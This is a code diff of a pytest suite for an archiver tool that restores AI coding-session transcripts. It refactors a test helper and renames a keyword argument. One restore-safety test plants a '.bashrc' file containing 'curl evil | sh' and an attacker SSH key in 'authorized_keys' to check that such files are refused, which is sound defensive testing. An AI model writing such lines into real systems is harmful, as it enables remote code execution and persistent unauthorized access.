@@ -8,7 +8,6 @@ write access to the bucket could; the CLI runs in process."""
 from __future__ import annotations
 
 import contextlib
-import hashlib
 import io
 import json
 import re
@@ -18,10 +17,9 @@ from typing import Any
 
 import pytest
 
-from archiver.archive import Archive
 from archiver.cli import main
 from archiver.model import Artifact, LineageEdge, Manifest, Session
-from archiver.pack import object_id, pack_bytes
+from tests import fx_crafter
 from tests.fx_home import Box, box  # noqa: F401
 
 HOST_A, HOST_B = "a" * 16, "b" * 16
@@ -48,27 +46,11 @@ def run_json(b: Box, *args: str, expect: int = 0, identity: Path | None = None) 
     return json.loads(out)
 
 
-class Crafter:
+class Crafter(fx_crafter.Crafter):
     """Hand-made objects and manifests in the box's store."""
 
     def __init__(self, b: Box) -> None:
-        from archiver import runtime
-        from archiver.config import load_settings
-
-        settings = load_settings(b.config)
-        self.keys = runtime.team_keys(settings)
-        self.recipients = runtime.recipients(settings)
-        self.archive = Archive(runtime.store(settings))
-        self.archive.ensure_marker()
-
-    def put(self, data: bytes) -> str:
-        oid = object_id(self.keys.object_id, data)
-        self.archive.store.put_bytes(f"objects/{oid[:2]}/{oid}", pack_bytes(data, self.recipients))
-        return oid
-
-    def artifact(self, path: str, data: bytes, role: str = "transcript", fmt: str = "jsonl") -> Artifact:
-        return Artifact(path=path, role=role, format=fmt, size=len(data), mtime=1_760_000_000.0,  # type: ignore[arg-type]
-                        sha256=hashlib.sha256(data).hexdigest(), objects=[self.put(data)])
+        super().__init__(b.config)
 
     def manifest(self, host: str, when: datetime, sessions: list[Session]) -> str:
         for s in sessions:
@@ -270,9 +252,9 @@ def test_restore_refuses_files_outside_the_sessions_harness_folder(box: Box) -> 
     ok = user_line("u1", None, "legit")
     c.manifest(HOST_A, NOW, [
         claude("evil", [c.artifact(".claude/projects/-p/evil.jsonl", ok),
-                        c.artifact(".bashrc", b"curl evil | sh\n", role="sidecar", fmt="text"),
-                        c.artifact(".ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n", role="sidecar", fmt="text"),
-                        c.artifact(".codex/config.toml", b"model = 'evil'\n", role="sidecar", fmt="text"),
+                        c.artifact(".bashrc", b"curl evil | sh\n", role="sidecar", format="text"),
+                        c.artifact(".ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n", role="sidecar", format="text"),
+                        c.artifact(".codex/config.toml", b"model = 'evil'\n", role="sidecar", format="text"),
                         c.artifact(".claude-evil/x.jsonl", b"{}\n")]),
         Session(key="mystery:x", harness="mystery", session_id="x",
                 artifacts=[c.artifact(".mystery/x.jsonl", b"{}\n")]),
@@ -333,7 +315,7 @@ def test_a_file_two_sessions_name_with_the_same_objects_is_written_and_listed_on
     """FORMAT.md §5.1: same path, same objects: one file seen from several sessions (a Cursor
     terminals/N.txt two chats read), whether or not the manifest marks it `shared`."""
     c = Crafter(box)
-    term = c.artifact(".cursor/projects/p/terminals/1.txt", b"$ make\n", role="sidecar", fmt="text")
+    term = c.artifact(".cursor/projects/p/terminals/1.txt", b"$ make\n", role="sidecar", format="text")
     sess = [Session(key=f"cursor-agent:{sid}", harness="cursor-agent", session_id=sid, artifacts=[
         c.artifact(f".cursor/projects/p/agent-transcripts/{sid}.jsonl", line(role="user", sid=sid)), term])
         for sid in ("c-1", "c-2")]
